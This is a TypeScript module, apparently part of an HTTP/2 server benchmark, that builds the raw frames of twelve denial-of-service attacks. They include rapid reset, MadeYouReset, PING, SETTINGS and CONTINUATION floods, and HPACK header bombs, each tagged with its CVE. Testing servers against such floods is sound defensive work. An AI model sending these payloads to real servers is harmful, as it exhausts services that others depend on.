/**
 * Attacks over HTTP/2, each as the octets of one connection, made before anything is timed.
 *
 * Owns what is sent; who sends it, and what it costs whom, is the benchmark's.
 *
 * @module
 */
import { FrameType, http2Frame } from './raw-frames.ts';

/** One attack. */
export interface Http2Attack {
  readonly name: string;
  readonly known: string;
  /** What follows the preface, an empty SETTINGS and its acknowledgement. */
  readonly octets: Buffer;
  /** Whether the server ends the connection. If not, it is the attacker that goes, when all is sent and read. */
  readonly isEnded: boolean;
}

const END_STREAM = 1;
const END_HEADERS = 4;
const STREAMS = 2_000;
const FRAMES = 20_000;
/** GET http://a/ by the static table and one literal (RFC 7541 appendix A); POST likewise. */
const GET = [0x82, 0x86, 0x84, 0x01, 1, 0x61];
const POST = [0x83, 0x86, 0x84, 0x01, 1, 0x61];

const get = (id: number): Buffer => http2Frame(FrameType.headers, END_STREAM | END_HEADERS, id, GET);
const post = (id: number): Buffer => http2Frame(FrameType.headers, END_HEADERS, id, POST);
const numbered = (count: number, make: (id: number) => readonly Buffer[]): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => Buffer.concat(make(1 + 2 * index))));
const repeated = (unit: Buffer): Buffer => Buffer.concat(Array.from({ length: FRAMES }, () => unit));

/** A field of 4,000 octets for the dynamic table, and a head that refers to it 10,000 times. */
function bomb(): Buffer {
  const entry = [...GET, 0x40, 1, 0x78, 0x7f, 0xa1, 0x1e, ...new Array<number>(4_000).fill(0x76)];
  const references = [...GET, ...new Array<number>(10_000).fill(0xbe)];
  const first = http2Frame(FrameType.headers, END_STREAM | END_HEADERS, 1, entry);
  return Buffer.concat([
    first,
    ...Array.from({ length: 100 }, (_, index) =>
      http2Frame(FrameType.headers, END_STREAM | END_HEADERS, 3 + 2 * index, references),
    ),
  ]);
}

/** A head of nothing but crumbs of a cookie. */
function crumbs(): Buffer {
  // cookie by the static table, a value of one octet, in no table.
  const field = [0x0f, 17, 1, 0x63];
  const block = [...GET, ...Array.from({ length: 4_000 }, () => field).flat()];
  return numbered(100, (id) => [http2Frame(FrameType.headers, END_STREAM | END_HEADERS, id, block)]);
}

/** Every attack. */
export function http2Attacks(): readonly Http2Attack[] {
  const { rstStream, windowUpdate, data, ping, settings, priority, continuation, headers } = FrameType;
  const unknown = 0xee;
  return [
    {
      name: 'rapid reset',
      known: 'CVE-2023-44487',
      octets: numbered(STREAMS, (id) => [get(id), http2Frame(rstStream, 0, id, [0, 0, 0, 8])]),
      isEnded: true,
    },
    {
      name: 'MadeYouReset: window of 0',
      known: 'CVE-2025-8671',
      octets: numbered(STREAMS, (id) => [post(id), http2Frame(windowUpdate, 0, id, [0, 0, 0, 0])]),
      isEnded: true,
    },
    {
      name: 'MadeYouReset: DATA behind the end',
      known: 'CVE-2025-8671',
      octets: numbered(STREAMS, (id) => [get(id), http2Frame(data, 0, id, [0x78])]),
      isEnded: true,
    },
    {
      name: 'PING',
      known: 'CVE-2019-9512',
      octets: repeated(http2Frame(ping, 0, 0, new Array<number>(8).fill(0))),
      isEnded: true,
    },
    { name: 'SETTINGS', known: 'CVE-2019-9515', octets: repeated(http2Frame(settings, 0, 0, [])), isEnded: true },
    {
      name: 'PRIORITY',
      known: 'CVE-2019-9513',
      octets: repeated(http2Frame(priority, 0, 1, [0, 0, 0, 3, 15])),
      isEnded: true,
    },
    {
      name: 'empty CONTINUATION',
      known: 'CVE-2024-27983',
      octets: Buffer.concat([http2Frame(headers, 0, 1, GET), repeated(http2Frame(continuation, 0, 1, []))]),
      isEnded: true,
    },
    {
      name: 'empty DATA',
      known: 'CVE-2019-9518',
      octets: Buffer.concat([post(1), repeated(http2Frame(data, 0, 1, []))]),
      isEnded: true,
    },
    {
      name: 'WINDOW_UPDATE by one',
      known: 'CVE-2019-9511',
      octets: repeated(http2Frame(windowUpdate, 0, 0, [0, 0, 0, 1])),
      isEnded: true,
    },
    { name: 'unknown frames', known: '', octets: repeated(http2Frame(unknown, 0, 0, [])), isEnded: true },
    { name: 'header bomb: references', known: 'CVE-2016-6581', octets: bomb(), isEnded: false },
    { name: 'header bomb: cookie crumbs', known: 'CVE-2026-49975', octets: crumbs(), isEnded: false },
  ];
}
